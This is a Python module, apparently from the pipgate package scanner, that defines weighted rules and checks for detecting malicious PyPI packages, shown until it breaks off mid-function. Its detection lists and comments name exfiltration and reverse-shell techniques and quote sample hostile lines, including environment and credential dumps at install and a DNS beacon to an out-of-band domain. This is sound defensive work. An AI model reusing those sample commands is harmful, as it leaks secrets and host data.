"""The named rules, their weights, and the checks that raise them from one file's facts.

A weight says how much one rule, alone, says about a file; a file is flagged when the sum
over distinct rules (``scoring.score``) reaches the policy's threshold (10 by default). So
strong evidence (decoded data handed to ``exec``) flags on its own, and weak signals that
legitimate packages show every day (``subprocess`` in ``setup.py``, ``base64`` use, a
network library) stay far below it unless they come together.

``RULES_VERSION`` changes whenever a rule or weight does, so cached verdicts are redone.
"""

from __future__ import annotations

import bisect
import functools
import hashlib
import math
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from pipgate.policies.scan import Finding

from . import indicators
from .facts import Call, Facts
from .layout import Role
from .source import DNS_LOOKUPS, ESCAPE_SOUP, FETCH_TO_PATH, SAVED_AS_CODE, SAVED_AS_PROGRAM

REVISION = 74


@dataclass(frozen=True, slots=True)
class Rule:
    name: str
    weight: float
    summary: str


RULES: dict[str, Rule] = {
    rule.name: rule
    for rule in (
        Rule(
            "decode-exec",
            10,
            "decoded data (base64, hex, zlib, marshal, ...) run by exec or a process",
        ),
        Rule("download-exec", 10, "data from the network handed to exec/eval or a process"),
        Rule("download-run", 10, "a command that downloads and runs a program"),
        Rule(
            "drop-run", 10, "writes downloaded, decoded or embedded bytes to a file, then runs it"
        ),
        Rule("reverse-shell", 10, "connects a shell to a remote socket"),
        Rule(
            "pickle-code",
            10,
            "ships a pickle (a model, a cache) whose loading runs a command or code",
        ),
        Rule("cryptominer", 10, "starts or downloads a cryptocurrency miner"),
        Rule("pth-exec", 10, "a .pth line that runs more than an import"),
        Rule("pth-import", 2, "a .pth line that imports a module at every interpreter start"),
        Rule(
            "startup-hook",
            6,
            "installs sitecustomize or usercustomize: a module Python imports at every start",
        ),
        Rule("clipboard-swap", 10, "reads the clipboard next to crypto-currency addresses"),
        Rule(
            "defense-evasion",
            10,
            "turns off Defender, the firewall, shadow copies or event logs, or bypasses UAC",
        ),
        Rule("shellcode", 10, "allocates executable memory and copies or starts code in it"),
        Rule("spyware", 10, "records keystrokes (8: captures the screen) beside network use"),
        Rule(
            "anti-analysis",
            8,
            "lists sandbox user names and analysis tools' processes, to hide from them"
            " (10: and kills them or quits)",
        ),
        Rule(
            "patch-exfil",
            10,
            "replaces another package's function with one that sends to an address in the code",
        ),
        Rule("credential-read", 6, "reads a credential store (browser, Discord, wallet, keys)"),
        Rule("credential-exfil", 6, "reads credentials and sends data out from the same file"),
        Rule(
            "secret-exfil",
            10,
            "sends the secret half of a signing key to an address written into the code",
        ),
        Rule("exfil-sink", 6, "a known exfiltration sink (chat webhook, request catcher, raw IP)"),
        Rule("phone-home", 7, "code run at install or import sends host facts (user, host) out"),
        Rule(
            "hidden-install",
            6,
            "install- or import-time code installs other packages or looks up DNS",
        ),
        Rule(
            "destructive",
            10,
            "install- or import-time code shuts the machine down or deletes a home",
        ),
        Rule("install-network", 6, "install-time code uses the network"),
        Rule(
            "hidden-url",
            10,
            "uses the network and spells a URL only encoded (base64, hex, character codes)",
        ),
        Rule("import-network", 5, "importing the package uses the network"),
        Rule("import-process", 4, "importing the package starts a process"),
        Rule("install-process", 2, "install-time code starts processes"),
        Rule(
            "install-run-bundled",
            8,
            "install- or import-time code runs a program, or a script that fetches or hides,"
            " from the archive",
        ),
        Rule(
            "bundled-library",
            10,
            "install- or import-time code loads a native library, or imports a module, that a"
            " platform-free archive ships only compiled",
        ),
        Rule(
            "install-python",
            8,
            "install- or import-time code starts Python on inline code, detached or hidden",
        ),
        Rule("install-write", 3, "install-time code writes outside the build directory"),
        Rule(
            "persistence",
            5,
            "installs itself to run at login, on a schedule or as a service (8 at install)",
        ),
        Rule(
            "account-backdoor",
            10,
            "appends a public key written in the code to an account's SSH authorized_keys",
        ),
        Rule(
            "agent-hijack",
            10,
            "install- or import-time code runs a coding agent (Claude Code, Gemini CLI, Codex,"
            " Amazon Q, Copilot) with its permission checks off",
        ),
        Rule(
            "index-hijack",
            10,
            "install- or import-time code points pip, uv or conda at another package index",
        ),
        Rule("obfuscated", 4, "code hidden behind dynamic builtins, escape soup or junk names"),
        Rule("opaque-literal", 3, "a long opaque literal (encoded or encrypted data)"),
        Rule("placeholder", 5, "a payload-less placeholder: 0.0.0/99.x version, empty package"),
        Rule("placeholder-text", 5, "describes itself as a dummy or placeholder"),
        Rule("lookalike-name", 5, "the project's name imitates a popular one (typo, look-alike)"),
        Rule("lookalike-dependency", 5, "requires a project whose name imitates a popular one"),
        Rule(
            "copied-identity",
            5,
            "its summary or home page is a popular project's (one it is not)",
        ),
        Rule(
            "paired",
            10,
            "two kinds of evidence no legitimate file shows together (network and a process on"
            " import; a known sink beside a download, a network call, a process, persistence"
            " or a blob): weighs what the pair lacks of 10",
        ),
        Rule(
            "anonymous",
            3,
            "code with findings in an archive that names no home page, repository or project"
            " URL: nobody a reviewer can ask or check it against",
        ),
        Rule("stealer-dependency", 4, "requires packages stealers use (browser-cookie3, ...)"),
        Rule(
            "url-requirement",
            10,
            "requires a project by URL (pip fetches it from there, past the index and pipgate)",
        ),
        Rule("command-hijack", 8, "installs a command named like a system one (pip, sudo, ls)"),
        Rule("embedded-executable", 6, "a Windows, Linux or macOS executable inside a literal"),
        Rule("unsafe-member", 6, "an archive member with an absolute or '..' path"),
        Rule("bundled-executable", 2, "ships a Windows executable"),
        Rule(
            "compiled-sink",
            10,
            "compiled code it ships (an extension module, a DLL, a program) names a webhook, a"
            " bot's token or a request catcher",
        ),
    )
}
#: sha256 of the typosquat index shipped with pipgate (``proxy/data/typosquat-index.bin``),
#: which ``lookalike-name`` judges names against: part of the rules, so a new corpus
#: re-scans too. A test checks it against the shipped file.
NAMES_CORPUS = "354fbcb4f231876dbb6911699567aeba6b694289aabe355752e5139dbdf038cf"
#: sha256 of the popular projects' summaries ``copied-identity`` compares with
#: (``proxy/data/popular-summaries.tsv``), part of the rules for the same reason.
SUMMARIES_CORPUS = "feddc2b6346ffe88f308e53d3a661054045b50dd764a04ef929ed97d844598a1"
RULES_VERSION = (
    f"{REVISION}."
    + hashlib.sha256(
        repr(
            (sorted((r.name, r.weight) for r in RULES.values()), NAMES_CORPUS, SUMMARIES_CORPUS)
        ).encode()
    ).hexdigest()[:8]
)

NETWORK = (
    "requests.get",
    "requests.post",
    "requests.put",
    "requests.request",
    "requests.Session",
    "requests.patch",
    "requests.delete",
    "requests.head",
    "urllib.request.urlopen",
    "urllib.request.urlretrieve",
    # (Not `urllib.request.Request`: it builds a request and sends nothing; `urlopen` or an
    # opener sends it.)
    "urllib.request.build_opener",
    "urllib2.build_opener",
    "urllib.urlopen",
    "urllib.urlretrieve",
    "urllib2.urlopen",
    "http.client.HTTPSConnection",
    "http.client.HTTPConnection",
    "httplib.HTTPConnection",
    "httplib.HTTPSConnection",
    "socket.socket",
    "socket.create_connection",
    "httpx.get",
    "httpx.post",
    "httpx.Client",
    "httpx.AsyncClient",
    "httpx.request",
    "httpx.put",
    "httpx.patch",
    "httpx.stream",
    "aiohttp.ClientSession",
    "aiohttp.request",
    "urllib3.request",
    "websockets.connect",
    "websocket.create_connection",
    # Other HTTP libraries (browser-impersonating ones stealers favour too), and clients.
    *("curl_cffi.requests.get", "curl_cffi.requests.post", "curl_cffi.requests.Session"),
    *("tls_client.Session", "cloudscraper.create_scraper", "httplib2.Http"),
    *("niquests.get", "niquests.post", "niquests.Session", "grequests.get", "grequests.post"),
    *("socketio.Client", "socketio.AsyncClient", "xmlrpc.client.ServerProxy", "dhooks.Webhook"),
    "urllib3.PoolManager",
    "dns.resolver.resolve",
    "dns.resolver.query",
    "smtplib.SMTP",
    "smtplib.SMTP_SSL",
    "ftplib.FTP",
    "ftplib.FTP_TLS",
    "discord_webhook.DiscordWebhook",
    "discordwebhook.Discord",
    "pycurl.Curl",
    "wget.download",
    "socket.gethostbyname",
    "socket.getaddrinfo",
    # Clients of file drops and chat bots: where a stealer's loot goes without a URL.
    "dropbox.Dropbox",
    "telebot.TeleBot",
    "telegram.Bot",
    "telethon.TelegramClient",
    "pyrogram.Client",
    "aiogram.Bot",
    "zulip.Client",
    "discord.SyncWebhook.from_url",
    "discord.Webhook.from_url",
    # Mail, message-broker and other HTTP clients: a public MQTT broker carries what is
    # published to whoever subscribes.
    *(
        "yagmail.SMTP",
        "yagmail.SMTP_SSL",
        "paho.mqtt.client.Client",
        "telethon.sync.TelegramClient",
    ),
    *("tornado.httpclient.HTTPClient", "tornado.httpclient.AsyncHTTPClient", "twilio.rest.Client"),
    *("supabase.create_client", "pyrebase.initialize_app", "firebase_admin.initialize_app"),
    *("imaplib.IMAP4_SSL", "imaplib.IMAP4", "poplib.POP3_SSL", "poplib.POP3"),
)
PROCESS = (
    "subprocess.Popen",
    "subprocess.call",
    "subprocess.run",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "os.system",
    "os.popen",
    "os.startfile",
    "os.execv",
    "os.execve",
    "os.execl",
    "os.execvp",
    "os.fexecve",
    "os.spawnl",
    "os.spawnv",
    "pty.spawn",
    "commands.getoutput",
    "pip.main",
    "pip._internal.main",
    "pip._internal.cli.main.main",
    # Windows' own ways to start a program, through ctypes or pywin32.
    *(".ShellExecuteW", ".ShellExecuteA", ".ShellExecuteExW", ".WinExec"),
    *("win32api.ShellExecute", "win32process.CreateProcess", ".CreateProcessW"),
)
HOST_FACTS = (
    "getpass.getuser",
    "socket.gethostname",
    "socket.getfqdn",
    "platform.node",
    "os.getlogin",
    "platform.uname",
    "os.uname",
    "uuid.getnode",
)
CLIPBOARD = (
    "pyperclip.paste",
    "pyperclip.copy",
    "win32clipboard.GetClipboardData",
    "win32clipboard.SetClipboardData",
    "clipboard.paste",
    ".clipboard_get",
    ".clipboard_append",
)
_URL = re.compile(r"\s*(?:https?|wss?|ftp)://\w", re.I)
_EXECUTABLE_FILE = re.compile(r"\.(?:exe|scr|bat|vbs|ps1|cmd|msi)$", re.I)
#: A program run from a world-writable scratch directory: put there by the code itself.
_SCRATCH_PROGRAM = re.compile(r"(?:/tmp|/var/tmp|/dev/shm)/[^\s/]+(?:/[^\s/]+)*$")
#: A process call's program that downloads (its arguments are a URL and where to save it).
_DOWNLOADER = re.compile(r"(?:.*[\\/])?(?:curl|wget)(?:\.exe)?$", re.I)
_PROGRAM_FILE = re.compile(
    r"[\w\\/.-]\.(?:js|vbs|vbe|bat|cmd|ps1|exe|dll|lnk|scr|desktop|plist|service)$", re.I
)
_WRITE_OUTSIDE = re.compile(
    r"(?:^~[\\/]|APPDATA|USERPROFILE|LOCALAPPDATA|^/etc/|^/usr/(?:local/)?bin|^/tmp/|ProgramData)",
    re.I,
)


class Texts:
    """The string literals of one file joined into one text, so each pattern runs once."""

    __slots__ = ("_lines", "_starts", "_values", "lower", "text")

    def __init__(self, items: list[tuple[str, int]]) -> None:
        self._values = [value for value, _ in items]
        self._lines = [line for _, line in items]
        self._starts: list[int] = []
        position = 0
        for value in self._values:
            self._starts.append(position)
            position += len(value) + 1
        self.text = "\x00".join(self._values)
        self.lower = self.text.lower()

    def search(self, indicator: indicators.Indicator) -> tuple[re.Match[str], str, int] | None:
        """The first match, the literal it is in, and that literal's line."""
        match = indicator.search(self.text, self.lower)
        if match is None:
            return None
        index = bisect.bisect_right(self._starts, match.start()) - 1
        return match, self._values[index], self._lines[index]

    def first(self, predicate) -> tuple[str, int] | None:  # type: ignore[no-untyped-def]
        for value, line in zip(self._values, self._lines, strict=True):
            if predicate(value):
                return value, line
        return None


def finding(rule: str, path: str, line: int, detail: str, weight: float | None = None) -> Finding:
    return Finding(rule, RULES[rule].weight if weight is None else weight, path, line, detail)


#: Rules that mean the same wherever the code sits; the others weigh less in a module that
#: neither installing nor importing the package runs (``MODULE_FACTOR``). Not ``drop-run``
#: (from rules 71): a large library's function that fetches a helper and runs it when
#: asked to is a tool (torch's memory visualiser fetches FlameGraph's script from GitHub,
#: marks it executable and runs it); a dropper runs on install or import.
UNAMBIGUOUS = frozenset(
    {
        "decode-exec",
        "download-exec",
        "reverse-shell",
        "clipboard-swap",
        "phone-home",
        "spyware",
        "shellcode",
        "defense-evasion",
        "secret-exfil",
        "account-backdoor",
        "patch-exfil",
    }
)
MODULE_FACTOR = 0.6


def check_python(
    path: str, role: Role, facts: Facts, damped: bool = True, build: bool = False
) -> Iterator[Finding]:
    """Findings for one Python file in its role (install-time, import-time, ...). A module
    nothing runs early weighs ``MODULE_FACTOR`` when ``damped`` (a large package's); in any
    other, two kinds of evidence of ``PAIRED`` weigh together what the threshold asks,
    unless the file is a ``build`` helper (``layout.build_helpers``): a build that
    downloads and compiles does both, as setup scripts do."""
    found = list(_check_python(path, role, facts))
    if role is Role.MODULE and damped:
        # (Nor do pairs count there: two weak signals in a large package's module nothing
        # runs early, an API's example token beside a long literal, are not a payload.)
        yield from (_damped(item) for item in found)
        return
    yield from found
    if build:
        return
    pair = _paired(path, found)
    if pair is not None:
        yield pair


def _damped(item: Finding) -> Finding:
    if item.rule in UNAMBIGUOUS or (item.rule == "credential-exfil" and item.weight >= 10):
        # (The environment or a credential store sent to a sink or to an address the code
        # carries: theft whichever code calls it, as `_flows` weighs it.)
        return item
    return Finding(
        item.rule, round(item.weight * MODULE_FACTOR, 2), item.file, item.line, item.detail
    )


#: Kinds of evidence that no legitimate file shows together in one file, though each
#: alone is everyday: of 2,828 legitimate archives (the tuning halves of both samples),
#: none has a file with both of a pair, while 236 to 843 development malware archives
#: do for each. Importing a package that reaches the network and starts a process; a
#: known exfiltration sink (a webhook, a request catcher, a raw address) in the file that
#: downloads and runs, uses the network or starts a process early, persists, or carries
#: an opaque blob.
PAIRED = (
    ("import-network", "import-process"),
    *(
        ("exfil-sink", other)
        for other in (
            "download-run",
            "import-network",
            "import-process",
            "install-network",
            "install-process",
            "persistence",
            "opaque-literal",
        )
    ),
)
#: What a pair weighs together: the policy's default threshold.
PAIRED_WEIGHT = 10.0


#: What an archive says about whom it is (another project's summary or home page, a name
#: that imitates a popular one), paired with a known exfiltration sink anywhere in it: of
#: 2,828 legitimate tune-half archives none shows both, of the development malware 164 do.
CLAIMS = ("copied-identity", "lookalike-name")


def paired_claim(findings: list[Finding]) -> Finding | None:
    """``paired`` for an archive with one of ``CLAIMS`` and an ``exfil-sink`` (at their
    heaviest), weighing what the two lack of ``PAIRED_WEIGHT``; ``None`` otherwise."""
    claim = max((f for f in findings if f.rule in CLAIMS), key=lambda f: f.weight, default=None)
    sink = max(
        (f for f in findings if f.rule == "exfil-sink"), key=lambda f: f.weight, default=None
    )
    if claim is None or sink is None:
        return None
    return _lifted(claim, sink, sink.file, sink.line, "one archive")


def _paired(path: str, found: list[Finding]) -> Finding | None:
    """``paired`` for the first of ``PAIRED`` both of whose rules are among one file's
    ``found``, weighing what the two (at their heaviest) lack of ``PAIRED_WEIGHT``; ``None``
    when no pair is there or the pair weighs that already."""
    heaviest: dict[str, Finding] = {}
    for item in found:
        if item.rule not in heaviest or item.weight > heaviest[item.rule].weight:
            heaviest[item.rule] = item
    for first, second in PAIRED:
        if first in heaviest and second in heaviest:
            one, other = heaviest[first], heaviest[second]
            if second == "import-process" and one.line == other.line:
                continue  # one call (`wget URL` run on import): one behaviour, not two
            return _lifted(one, other, path, min(one.line, other.line), "one file")
    return None


def _lifted(one: Finding, other: Finding, path: str, line: int, where: str) -> Finding | None:
    """``paired`` weighing what ``one`` and ``other`` lack of ``PAIRED_WEIGHT`` together;
    ``None`` when they weigh that already."""
    lacking = PAIRED_WEIGHT - one.weight - other.weight
    if lacking <= 0:
        return None
    detail = f"{one.rule} and {other.rule} in {where}"
    return finding("paired", path, line, detail, round(lacking, 2))


def _check_python(path: str, role: Role, facts: Facts) -> Iterator[Finding]:
    yield from _exec_chains(path, facts)
    texts = Texts([*facts.strings, *facts.decoded])
    sink = _sink(path, texts, role) or _owned_account(path, facts)
    network = facts.called(*NETWORK)
    if sink is not None and network is not None:
        if sink.detail == "request catcher":
            # An out-of-band catcher or a throw-away tunnel, and the code to reach it:
            # nothing but a test of who runs the code, or a channel for what it takes,
            # calls one.
            sink = finding("exfil-sink", path, sink.line, "request catcher, reached", 10)
        else:
            owned = texts.search(indicators.OWNED_CHANNEL)
            if owned is not None:
                # A webhook or bot whose credentials the code carries, and the code to send
                # to it: what goes there goes to whoever wrote them in.
                detail = f"{sink.detail} with its credentials, reached"
                sink = finding("exfil-sink", path, owned[2], detail, 10)
    hidden = next((d for d in facts.decoded if _URL.match(d[0])), None)
    yield from _flows(path, facts, role, sink, hidden_url=hidden is not None)
    if sink is not None:
        yield sink
    credential = _credentials(path, texts)
    if network is not None:
        if hidden is not None:
            # Nobody hides where their own code connects; a payload hides its server. (No
            # legitimate file of 2,828, tuning halves of both samples, does this.)
            yield finding("hidden-url", path, hidden[1], _clip(hidden[0], 40))
    upload = _upload(path, texts, facts)
    if upload is not None:
        yield upload
    dumped = _environment_dumped(facts) if role is Role.INSTALL else None
    if dumped is not None:
        # `os.system("env > LICENSE")` in setup.py: the build machine's environment (a CI
        # job's tokens) written into a file, which the build may then publish.
        detail = f"the environment written to a file by {dumped.name} at install"
        yield finding("credential-exfil", path, dumped.line, detail, 10)
    if credential is not None:
        yield credential
        read_by_command = role is Role.INSTALL and _handed_to_process(facts, credential.line)
        if read_by_command:
            # `os.system("cat /tekton/scripts/* > LICENSE")` in setup.py: a build never needs
            # the machine's secrets; a command that reads them at install takes them.
            detail = f"{credential.detail}, read by an install-time command"
            yield finding("credential-exfil", path, credential.line, detail, 10)
        elif network is not None or upload is not None or (sink is not None and sink.weight >= 6):
            # Credential stores beside a command that uploads whole files (`curl -F
            # file=@...`): the store itself goes out, not a token a client signs in with.
            weight = max(credential.weight, 8) if upload is not None else credential.weight
            yield finding("credential-exfil", path, credential.line, credential.detail, weight)
    yield from _commands(path, texts, facts, role)
    yield from _reverse_shell(path, texts, facts)
    yield from _miner(path, texts, facts)
    yield from _clipboard(path, texts, facts)
    yield from _spyware(path, facts)
    yield from _anti_analysis(path, facts)
    yield from _shellcode(path, facts)
    yield from _defense_evasion(path, texts, facts)
    yield from _backdoor_key(path, texts, facts)
    yield from _index_hijack(path, texts, facts)
    yield from _agent_hijack(path, texts, facts, role)
    yield from _fileless(path, texts, facts, network)
    yield from _patch_exfil(path, facts)
    if facts.wallet_key_published:
        detail = "a wallet's private key put into a transaction, which the chain publishes"
        yield finding("secret-exfil", path, facts.wallet_key_published, detail)
    yield from _obfuscation(path, facts, role)
    if role is Role.INSTALL:
        yield from _install_time(path, facts, network, texts)
    else:
        yield from _import_time(path, facts, role)


#: Files that hold data, not code: what `exec` runs from one was hidden there.
_DATA_FILE = re.compile(
    rf"\.{indicators.DATA_EXTENSIONS}$|(?:^|[\\/]){indicators.PROSE_FILES}$", re.I
)


#: Lines before a sink where the name of the data file it runs may be, when the file is
#: one no code is written in (an image, a font, a blob); text and tables (`.json`, `.txt`)
#: read into a name and `eval`ed are data parsed the lazy way.
_NEARBY = 3
_OPAQUE_FILE = re.compile(r"\.(?:bin|dat|dic|png|jpe?g|gif|ico|bmp|wav|mp3|ttf|woff2?)$", re.I)
#: Calls that load a module (or run a script) from a file named by the caller.
_MODULE_LOADERS = frozenset(
    {
        "importlib.util.spec_from_file_location",
        "importlib.machinery.SourceFileLoader",
        "importlib.machinery.SourcelessFileLoader",
        "imp.load_source",
        "imp.load_compiled",
        "runpy.run_path",
        "zipimport.zipimporter",  # a zip archive named as data, imported from
    }
)
_IMPORT_PATH = ("sys.path.insert", "sys.path.append", "zipimport.zipimporter")


def _downloaded_import_path(facts: Facts) -> Call | None:
    """A download saved to a path that is then put on the import path (`sys.path.insert(0,
    "/tmp/lib.zip")`, `zipimporter(...)`): the next import runs what was downloaded."""
    saved = {a for c in facts.calls if c.name in FETCH_TO_PATH for a in c.args[1:]}
    if not saved:
        return None
    return next(
        (c for c in facts.calls if names_one_of(c.name, _IMPORT_PATH) and saved & set(c.args)), None
    )


def _exec_chains(path: str, facts: Facts) -> Iterator[Finding]:
    imported = _downloaded_import_path(facts)
    if imported is not None:
        detail = f"a download put on the import path by {imported.name}"
        yield finding("download-exec", path, imported.line, detail)
        return
    remote = next((c for c in facts.calls if c.name.startswith("httpimport.")), None)
    if remote is not None:
        # `with httpimport.remote_repo(url): import helper`: modules imported from a server.
        yield finding(
            "download-exec", path, remote.line, f"code imported over HTTP ({remote.name})"
        )
        return
    for sink in facts.sinks:
        if sink.feed == "file":
            # `exec(open(join(here, "notes.txt")).read())`: the file's name on the line, or
            # on the lines just before it (`code = open(...).read()[1024:]`, then `exec`).
            hidden = _data_file_named(facts, sink.line, _NEARBY)
            if hidden is not None:
                detail = f"a data file ({_clip(hidden, 40)}) run by {sink.sink}"
                yield finding("decode-exec", path, sink.line, detail)
                return
    for call in facts.calls:
        if call.name in _MODULE_LOADERS:
            # A module loaded from a file named as data (`spec_from_file_location("c",
            # join(here, "core.bin"))`): code kept where no reader looks for it.
            hidden = _data_file_named(facts, call.line)
            if hidden is not None:
                detail = f"a data file ({_clip(hidden, 40)}) loaded as code by {call.name}"
                yield finding("decode-exec", path, call.line, detail)
                return
    for sink in facts.sinks:
        if sink.feed in ("decoded", "payload"):
            yield finding("decode-exec", path, sink.line, f"decoded data into {sink.sink}")
            return
        if sink.feed == "network":
            yield finding("download-exec", path, sink.line, f"network data into {sink.sink}")
            return


def _data_file_named(facts: Facts, line: int, nearby: int = 0) -> str | None:
    """The first data file's name a literal on ``line`` spells, or one of the ``nearby``
    lines before it spells (an opaque file's alone: ``_OPAQUE_FILE``)."""
    return next(
        (
            text
            for text, at in facts.strings
            if (at == line and _DATA_FILE.search(text))
            or (line - nearby <= at < line and _OPAQUE_FILE.search(text))
        ),
        None,
    )


def _flows(
    path: str, facts: Facts, role: Role, sink: Finding | None, hidden_url: bool = False
) -> Iterator[Finding]:
    """Data followed from where it comes from to where it goes: downloaded, decoded or
    embedded bytes written to a file that is then run; host facts, the environment or a
    credential store's content sent out. ``hidden_url``: the file spells a URL only
    encoded (whatever it sends may go there, and nobody hides their own server)."""
    early = role in (Role.INSTALL, Role.PTH) or (
        role is Role.IMPORT and any(c.top and names_one_of(c.name, NETWORK) for c in facts.calls)
    )
    for drop in facts.drops:
        if drop.runner == SAVED_AS_PROGRAM and not early:
            continue  # a tool that downloads a program when asked to
        if drop.runner == SAVED_AS_CODE and role not in (Role.INSTALL, Role.PTH):
            continue  # a tool that fetches a plugin or a template when asked to
        what = ", ".join(sorted(drop.kinds))
        yield finding("drop-run", path, drop.line, f"writes {what} data, then {drop.runner}")
        break
    if facts.embedded:
        kind, line = facts.embedded[0]
        yield finding("embedded-executable", path, line, kind)
    runs = role in (Role.INSTALL, Role.PTH)
    stolen = next((s for s in facts.sends if s.kinds & {"env", "credential"}), None)
    if stolen is not None:
        what = " and ".join(sorted(stolen.kinds & {"env", "credential"}))
        weight = 10 if runs or (role is Role.IMPORT and stolen.top) else 8
        if (
            (sink is not None and sink.weight >= 6)
            or (not stolen.kinds.isdisjoint({"env", "swept", "credential"}) and stolen.host)
            or hidden_url
        ):
            # The environment or a credential store sent to a chat webhook or a request
            # catcher, or to an address the code carries (the whole environment, a
            # credential store, the files found walking the user's home): theft whichever
            # code calls it (as host facts sent to a sink are, below).
            weight = 10
        yield finding(
            "credential-exfil", path, stolen.line, f"{what} sent by {stolen.name}", weight
        )
    secret = next((s for s in facts.sends if "key" in s.kinds and s.fixed), None)
    if secret is not None:
        # A signing secret signs requests where it is; nothing needs it sent in a body to
        # an address the code carries, whoever calls the code.
        yield finding("secret-exfil", path, secret.line, f"signing secret sent by {secret.name}")
    # (A DNS look-up of the machine's own name, `getaddrinfo(socket.gethostname())`, asks
    # its own resolver where it is: only a name built under a domain the code carries
    # sends anything, `gethostbyname(f"{user}.x.oast.fun")`.)
    beacon = next(
        (s for s in facts.sends if "host" in s.kinds and (s.fixed or s.name not in DNS_LOOKUPS)),
        None,
    )
    if beacon is not None:
        weight = 10 if runs or (role is Role.IMPORT and beacon.top) else 3
        if weight < 10 and sink is not None and sink.weight >= 6:
            # Who and where the machine is, sent to a chat webhook or a request catcher:
            # a beacon whichever code calls it.
            weight = 10
        if weight < 10 and hidden_url:
            # From a file that spells an address only encoded: a beacon that hides where it
            # goes.
            weight = 10
        if weight < 10 and beacon.fixed and sink is not None and sink.detail.startswith("raw IP"):
            # Sent to a bare public address written in: no service with a name to answer
            # for it collects them.
            weight = 10
        if weight < 10 and beacon.fixed and beacon.name in DNS_LOOKUPS:
            # Spelled into a name looked up under the code's own domain: a DNS tunnel.
            weight = 10
        yield finding("phone-home", path, beacon.line, f"host facts sent by {beacon.name}", weight)


#: A shell command that writes the whole environment into a file.
_ENVIRONMENT_DUMP = re.compile(r"(?:^|[;&|]\s*)(?:env|printenv|set)\s*>{1,2}\s*\S")


def _environment_dumped(facts: Facts) -> Call | None:
    """A process call whose command writes the environment into a file."""
    return next(
        (
            c
            for c in facts.calls
            if names_one_of(c.name, PROCESS) and any(_ENVIRONMENT_DUMP.search(a) for a in c.args)
        ),
        None,
    )


def _handed_to_process(facts: Facts, line: int) -> bool:
    """Whether a process call on ``line`` is handed a literal of that line (a command)."""
    texts = {text for text, at in facts.strings if at == line}
    return any(
        c.line == line and names_one_of(c.name, PROCESS) and texts.intersection(c.args)
        for c in facts.calls
    )


#: Blockchain clients made with a node's address: what they are handed goes in a
#: transaction anyone can read (a key in a memo).
_RPC_CLIENTS = (
    "solana.rpc.api.Client",
    "solana.rpc.async_api.AsyncClient",
    "web3.Web3.HTTPProvider",
    "web3.HTTPProvider",
    "Web3.HTTPProvider",
)


#: Requests made as objects and sent later (``requests.Request("POST", url).prepare()``,
#: handed to the session's own ``send``): a stand-in that makes one to a literal address
#: sends there, whichever call sends it.
_REQUEST_MAKERS = frozenset({"requests.Request", "urllib.request.Request", "httpx.Request"})


def _patch_exfil(path: str, facts: Facts) -> Iterator[Finding]:
    """Another package's function (a wallet's key maker, an exchange client's signer)
    replaced by one that reaches an address written into the code: every caller of that
    function now hands its arguments and results to whoever wrote the address in. Follows
    the replacement one call deep into this file's functions."""
    for attribute, functions, line in facts.patches:
        reached = set(functions)
        reached |= {c.name for c in facts.calls if c.within in functions and "." not in c.name}
        sent = next(
            (
                c
                for c in facts.calls
                if c.within in reached
                and (
                    names_one_of(c.name, NETWORK)
                    or names_one_of(c.name, _RPC_CLIENTS)
                    or c.name in _REQUEST_MAKERS
                )
                and any(_URL.match(a) for a in c.args)
            ),
            None,
        )
        if sent is not None:
            detail = f"{attribute} replaced by code that calls {sent.name}"
            yield finding("patch-exfil", path, line, detail)
            return


def _reverse_shell(path: str, texts: Texts, facts: Facts) -> Iterator[Finding]:
    hit = texts.search(indicators.REVERSE_SHELL)
    if hit is not None:
        yield finding("reverse-shell", path, hit[2], _clip(hit[0].group(0)))
        return
    sockets = [c for c in facts.calls if c.name == "socket.socket"]
    if not facts.called(".connect") or all("family=AF_UNIX" in c.keywords for c in sockets):
        return  # no socket, or only local ones (a runtime's streams sent to its supervisor)
    dup = facts.called("os.dup2") or next(
        (c for c in facts.calls if names_one_of(c.name, PROCESS) and "stdin=fileno" in c.keywords),
        None,
    )
    if dup is not None:
        yield finding("reverse-shell", path, dup.line, "socket connected to stdin/stdout")


def _miner(path: str, texts: Texts, facts: Facts) -> Iterator[Finding]:
    """A miner's name, pool or command line beside a call that starts a process."""
    hit = texts.search(indicators.MINER)
    if hit is not None and facts.called(*PROCESS, "os.startfile") is not None:
        yield finding("cryptominer", path, hit[2], _clip(hit[0].group(0)))


_SINK_WEIGHTS = {"request catcher": 7, "paste site": 4}


def _sink(path: str, texts: Texts, role: Role) -> Finding | None:
    for category, pattern in indicators.SINKS.items():
        hit = texts.search(pattern)
        if hit is not None:
            return finding("exfil-sink", path, hit[2], category, _SINK_WEIGHTS.get(category, 6))
    hit = texts.search(indicators.IP_LOGGER)
    if hit is not None:
        return finding("exfil-sink", path, hit[2], f"IP logger {_clip(hit[0].group(0), 30)}", 7)
    hit = texts.search(indicators.RAW_IP_URL)
    if hit is not None:
        found = texts.first(indicators.raw_ip)
        if found is not None:
            weight = 5 if role in (Role.INSTALL, Role.PTH) else 3
            address = indicators.raw_ip(found[0])
            return finding("exfil-sink", path, found[1], f"raw IP URL {address}", weight)
    return None


#: Access tokens of accounts data can be sent to (a Slack bot's, a GitHub user's).
_ACCOUNT_TOKEN = re.compile(
    r"(?P<Slack>\bxox[bpa]-\d{6,}-[\w-]{20,})|(?P<GitHub>\bgh[pous]_[A-Za-z0-9]{36}\b|\bgithub_pat_\w{60,})"
)
_BOT_MODULES = frozenset({"discord", "nextcord", "disnake", "interactions"})
#: What an example's mail password looks like, not a real one.
_PLACEHOLDER_PASSWORD = re.compile(r"pass|your|xxx|\*\*\*|<|\{|example|changeme|secret", re.I)


def _owned_account(path: str, facts: Facts) -> Finding | None:
    """An account the code signs in to with credentials written in: a mail account
    (``smtp.login("me@gmail.com", "app password")``), a Discord bot's token. What is sent
    through it goes to whoever wrote them in, like a webhook's."""
    if "smtplib" in facts.imports:
        for call in facts.calls:
            if (
                call.name.endswith(".login")
                and len(call.args) >= 2
                and "@" in call.args[0]
                and len(call.args[1]) >= 6
                and not _PLACEHOLDER_PASSWORD.search(call.args[1])
            ):
                return finding("exfil-sink", path, call.line, "mail account with its password")
    bots = not _BOT_MODULES.isdisjoint(name.split(".", 1)[0] for name in facts.imports)
    for value, line in facts.strings:
        if len(value) > 300:
            continue
        if bots and indicators.DISCORD_BOT_TOKEN.fullmatch(value):
            return finding("exfil-sink", path, line, "Discord bot with its token")
        token = _ACCOUNT_TOKEN.search(value)
        if token is not None:
            return finding("exfil-sink", path, line, f"{token.lastgroup} token written in")
    return None


def _upload(path: str, texts: Texts, facts: Facts) -> Finding | None:
